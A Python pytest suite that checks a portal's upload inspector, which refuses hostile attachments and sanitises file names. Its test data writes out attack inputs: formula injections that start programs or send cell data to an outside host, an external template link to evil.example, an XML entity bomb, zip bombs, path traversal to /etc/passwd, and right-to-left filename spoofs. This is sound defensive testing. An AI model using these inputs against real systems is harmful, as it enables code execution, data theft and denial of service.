"""Files that harm, lie or hide something are refused with a reason; good ones are taken. Every file is made by the tests themselves."""

import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PIL import Image

from portal.attachments.inspecting import Inspected, Refused, inspect
from portal.attachments.running import BrokenOffError, Limits, ask
from portal.domain.files import BY_CODE, REFUSALS, TYPES, safe_name, type_of
from tests.attachments import making as m


def looked_at(folder: Path, name: str, content: bytes) -> Inspected | str:
    """Inspect a file; the code where it is refused."""
    path = folder / "came"
    path.write_bytes(content)
    try:
        return inspect(path, name, folder)
    except Refused as error:
        return error.code if error.code in REFUSALS else f"not a reason: {error.code}"


@pytest.mark.parametrize("name", m.GOOD)
def test_good_files_are_taken(name: str, tmp_path: Path) -> None:
    """Else a coordinator cannot attach an evaluation."""
    found = looked_at(tmp_path, name, m.GOOD[name])
    assert isinstance(found, Inspected)
    assert found.type == type_of(name).code  # type: ignore[union-attr]
    if found.type == "pdf":
        assert found.pages == 1
    if BY_CODE[found.type].is_image:
        assert (found.width, found.height) == (900, 600)


def test_every_type_is_tried() -> None:
    """Else a new type is taken without a look."""
    assert {type_of(name) for name in m.GOOD} == set(TYPES)


@pytest.mark.parametrize("name", m.GOOD)
def test_no_file_passes_under_the_name_of_another_type(name: str, tmp_path: Path) -> None:
    """Else a program comes as a report."""
    content = m.GOOD[name]
    texts = {"txt", "csv"}
    for other in TYPES:
        if other == type_of(name) or {other.code, type_of(name).code} <= texts:  # type: ignore[union-attr]
            continue
        assert isinstance(looked_at(tmp_path, f"x.{other.suffixes[0]}", content), str), other.code


EXTERNAL = (
    b'<Relationships xmlns="x"><Relationship Id="r" Type="http://x/attachedTemplate" '
    b'Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>'
)
BILLION = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]><l>&b;</l>'
ODS_FORMULA = b"""<s xmlns:table="x"><c table:formula="of:=DDE(&quot;soffice&quot;;&quot;a&quot;)"/></s>"""
ZEROS = b"\0" * (8 * 1024 * 1024)
HOSTILE: dict[str, tuple[str, bytes, str]] = {
    "nothing in it": ("a.pdf", b"", "empty"),
    "a program": ("a.exe", b"MZ\x90", "unknown_type"),
    "a page": ("a.html", b"<script>", "unknown_type"),
    "a drawing with a script": ("a.svg", b"<svg onload='x()'/>", "unknown_type"),
    "a picture that is a drawing": ("a.png", b"<svg onload='x()'/>", "not_what_it_says"),
    "no suffix": ("report", m.pdf(), "unknown_type"),
    "a script in a PDF": ("a.pdf", m.pdf_with_script(), "active"),
    "a hidden script in a PDF": ("a.pdf", m.pdf_with_hidden_script(), "active"),
    "a file in a PDF": ("a.pdf", m.pdf_with_file(), "nested"),
    "a PDF with a password": ("a.pdf", m.pdf_locked(), "locked"),
    "a PDF and an archive": ("a.pdf", m.pdf() + m.archive({"a.js": b"x"}), "nested"),
    "an archive and a PDF": ("a.docx", m.pdf() + m.docx(), "not_what_it_says"),
    "a PDF behind a page": ("a.pdf", b"<html><script>x()</script>" + m.pdf(), "not_what_it_says"),
    "macros": ("a.docx", m.changed(m.docx(), {"word/vbaProject.bin": b"x"}), "macros"),
    "macros in OpenDocument": ("a.odt", m.odf("text", {"Basic/Standard/Module1.xml": b"<x/>"}), "macros"),
    "a template from elsewhere": ("a.docx", m.changed(m.docx(), {"word/_rels/settings.xml.rels": EXTERNAL}), "active"),
    "a sheet called a text": ("a.docx", m.xlsx(), "not_what_it_says"),
    "entities of entities": ("a.docx", m.changed(m.docx(), {"word/document.xml": BILLION}), "active"),
    "entities in OpenDocument": ("a.odt", m.odf("text", {"styles.xml": BILLION}), "active"),
    "wide entities": ("a.odt", m.odf("text", {"styles.xml": BILLION.decode().encode("utf-16")}), "active"),
    "a bomb": ("a.docx", m.changed(m.docx(), {f"word/media/{n}.bin": ZEROS for n in range(6)}), "bomb"),
    "too many parts": ("a.odt", m.odf("text", {f"p/{n}": b"" for n in range(6000)}), "bomb"),
    "a way out": ("a.odt", m.odf("text", {"../../etc/passwd": b"x"}), "damaged"),
    "another way out": ("a.odt", m.odf("text", {"..\\..\\x": b"x"}), "damaged"),
    "an absolute path": ("a.odt", m.odf("text", {"/etc/passwd": b"x"}), "damaged"),
    "an archive within": ("a.docx", m.changed(m.docx(), {"word/media/inner.zip": m.archive({"a": b"x"})}), "nested"),
    "an object within": ("a.docx", m.changed(m.docx(), {"word/embeddings/oleObject1.bin": b"\xd0\xcf"}), "nested"),
    "an old Office file": ("a.docx", m.OLD, "not_what_it_says"),
    "an Office file with a password": ("a.docx", m.OLD + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "an object in RTF": ("a.rtf", m.rtf("{\\object\\objocx{\\*\\objdata 01}}"), "active"),
    "an object in parts": ("a.rtf", m.rtf("{\\obj\r\ndata 01}"), "active"),
    "a picture of very many pixels": ("a.png", m.vast_png(60_000, 60_000), "too_many_pixels"),
    "a picture that ends early": ("a.jpg", m.picture("JPEG")[:4000], "damaged"),
    "a program called a text": ("a.txt", b"MZ\x90\0\x03\0\0\0", "not_what_it_says"),
    "a formula that asks a machine": (
        "a.xlsx",
        m.with_formula("_xlfn.WEBSERVICE(&quot;http://x.example&quot;)"),
        "active",
    ),
    "a formula in letters of its own": ("a.xlsx", m.with_formula("W&#69;BSERVICE(A1)"), "active"),
    "a formula in wide letters": ("a.xlsx", m.with_formula("WEBSERVICE(A1)", "utf-16"), "active"),
    "a formula that starts a program": ("a.xlsx", m.with_formula("cmd|&apos;/c calc&apos;!A1"), "active"),
    "a formula far down a sheet": ("a.xlsx", m.with_formula("RTD(&quot;x&quot;)", before=200_000), "active"),
    "a formula in OpenDocument": ("a.ods", m.odf("spreadsheet", {"styles.xml": ODS_FORMULA}), "active"),
    "a table that starts a program": ("a.csv", b"name;sum\r\nx;=cmd|' /C calc'!A0\r\n", "active"),
    "a table that asks a machine": ("a.csv", b'a,"=1+WEBSERVICE(""http://x.example/?""&A1)"\n', "active"),
    "signs that no text has": ("a.csv", b"a;b\0;c", "not_what_it_says"),
}


HARMLESS: dict[str, tuple[str, bytes]] = {
    "sums and links": (
        "a.xlsx",
        m.with_formula("IF(SUM(A1:A9)&gt;0,HYPERLINK(&quot;https://x.example&quot;,A1),&quot;a|b&quot;)"),
    ),
    "a column called image": ("a.csv", b"image,call\n- image (page 3),- call (free)\n=SUM(A1:A2),+221 33 123\n"),
    "what is important": ("a.csv", b"a|b!\n- What is | was important!\n"),
}


@pytest.mark.parametrize("what", HARMLESS)
def test_what_only_looks_like_it_is_taken(what: str, tmp_path: Path) -> None:
    """Else an office cannot attach its own budget."""
    assert isinstance(looked_at(tmp_path, *HARMLESS[what]), Inspected)


@pytest.mark.parametrize("what", HOSTILE)
def test_hostile_files_are_refused(what: str, tmp_path: Path) -> None:
    """Else what is attached runs on the machine of an official, or fills ours."""
    name, content, code = HOSTILE[what]
    assert looked_at(tmp_path, name, content) == code


def test_half_files_are_refused_or_taken_but_never_fail(tmp_path: Path) -> None:
    """Else an upload that broke off ends in an error page."""
    for name, content in m.GOOD.items():
        for part in (3, 2):
            found = looked_at(tmp_path, name, content[: len(content) // part])
            assert isinstance(found, (str, Inspected))
            if type_of(name).code not in ("txt", "csv", "pdf"):  # type: ignore[union-attr]
                assert found in ("damaged", "not_what_it_says"), name


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.sampled_from([type.suffixes[0] for type in TYPES]), st.binary(min_size=1, max_size=400), st.integers(0, 40))
def test_noise_with_the_right_beginning_never_fails(tmp_path: Path, suffix: str, noise: bytes, kept: int) -> None:
    """Else one strange file shows a person a plain error."""
    good = next(content for name, content in m.GOOD.items() if name.endswith(suffix))
    assert isinstance(looked_at(tmp_path, f"a.{suffix}", good[:kept] + noise), (str, Inspected))


def test_a_photograph_is_kept_without_place_and_device(tmp_path: Path) -> None:
    """Else the picture of a shelter tells where it is."""
    content = m.photograph()
    assert b"Camera of a caseworker" in content
    found = looked_at(tmp_path, "a.jpg", content)
    assert isinstance(found, Inspected)
    kept = found.path.read_bytes()
    assert found.path != tmp_path / "came"
    with Image.open(io.BytesIO(kept)) as picture:
        assert not picture.getexif()
        assert "comment" not in picture.info
        # It stands upright now, and nothing is left that would turn it.
        assert picture.size == (600, 900)
    assert b"Camera of a caseworker" not in kept
    assert b"Name of a child" not in kept
    assert b"Exif" not in kept


def test_a_child_that_takes_too_long_is_ended(tmp_path: Path) -> None:
    """Else a few files keep all of the portal busy."""
    path = tmp_path / "big.odt"
    path.write_bytes(m.odf("text", {"content.xml": b"<a>" + b"<b>" * 3_000_000}))
    with pytest.raises(BrokenOffError):
        ask("extract", Limits(seconds=1, cpu=1, memory=1 << 30), path=str(path), type="odt")


NAMES = [
    ("../../etc/passwd.pdf", "passwd.pdf"),
    ("C:\\Users\\me\\note.pdf", "note.pdf"),
    ("รายงาน ผู้เดินทาง.pdf", "รายงาน ผู้เดินทาง.pdf"),
    ("Báo cáo trở về.docx", "Báo cáo trở về.docx"),
    ("گزارش\u200cها.pdf", "گزارش\u200cها.pdf"),
    ("\u202efdp.exe.pdf", "fdp.exe.pdf"),
    ("photo\u202egpj.exe", "photogpj.exe"),
    ("a\0b\x1f.pdf", "ab.pdf"),
    ("a\ud800b.pdf", "ab.pdf"),
    ("a\r\nSet-Cookie: x.pdf", "a Set-Cookie_ x.pdf"),
    ('what? "this": <that>.pdf', "what_ _this__ _that_.pdf"),
    (".pdf", "file.pdf"),
    ("  . ", "file"),
    ("\u200d", "file"),
    ("note.pdf. . ", "note.pdf"),
    ("CON", "_CON"),
    ("aux.tar.pdf", "_aux.tar.pdf"),
    ("console.pdf", "console.pdf"),
    ("Report no. 4 of the mission", "Report no. 4 of the mission"),
    ("a" * 300 + ".pdf", "a" * 116 + ".pdf"),
    ("ก" * 300 + ".pdf", "ก" * 78 + ".pdf"),
    ("a" * 115 + "ที่" + ".pdf", "a" * 115 + ".pdf"),
]


@pytest.mark.parametrize(("given_name", "kept"), NAMES)
def test_names_lead_nowhere_and_stay_readable(given_name: str, kept: str) -> None:
    """Else a name hides what a file is, or where it is written."""
    assert safe_name(given_name) == unicodedata.normalize("NFC", kept)


SIGNS = st.characters(codec=None, exclude_categories=())


@given(st.text(SIGNS, max_size=300), st.sampled_from(["", *(f".{type.suffixes[0]}" for type in TYPES)]))
def test_any_name_becomes_a_safe_one(name: str, end: str) -> None:
    """Else some name of 255 letters breaks an upload."""
    safe = safe_name(name + end)
    assert 0 < len(safe) <= 120
    assert len(safe.encode()) <= 240
    assert safe.endswith(end)
    assert safe == safe_name(safe)
    assert safe == safe.strip(" .")
    assert not set(safe) & set('/\\\0<>:"|?*\n')
    assert not [sign for sign in safe if unicodedata.category(sign) in ("Cc", "Cs") or sign in "\u202e\u2066"]
